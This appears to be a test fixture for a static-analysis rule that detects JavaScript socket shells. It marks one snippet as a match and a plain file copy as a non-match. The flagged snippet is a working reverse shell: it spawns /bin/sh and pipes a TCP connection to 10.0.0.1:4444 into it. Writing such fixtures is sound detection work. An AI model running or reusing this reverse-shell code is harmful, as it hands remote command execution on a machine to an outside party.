const net = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', []);
const client = net.connect(4444, '10.0.0.1', () => {
  // ruleid: js_socket_shell
  client.pipe(sh.stdin);
});
// ok: js_socket_shell
fs.createReadStream(a).pipe(fs.createWriteStream(b));
